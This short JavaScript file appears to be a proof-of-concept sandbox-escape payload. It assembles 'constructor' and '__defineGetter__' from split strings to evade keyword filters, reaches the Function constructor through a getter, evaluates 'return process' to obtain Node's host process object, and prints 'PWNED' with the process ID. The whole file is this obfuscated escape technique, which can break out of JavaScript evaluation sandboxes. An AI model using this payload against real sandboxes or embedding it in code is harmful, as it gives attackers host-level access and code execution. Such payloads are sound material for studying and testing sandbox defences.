'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
const o = {};
fn[['__define', 'Getter__'].join('')]('it', function () { return this[w]; });
console.log('PWNED', fn.it('return process')().pid);
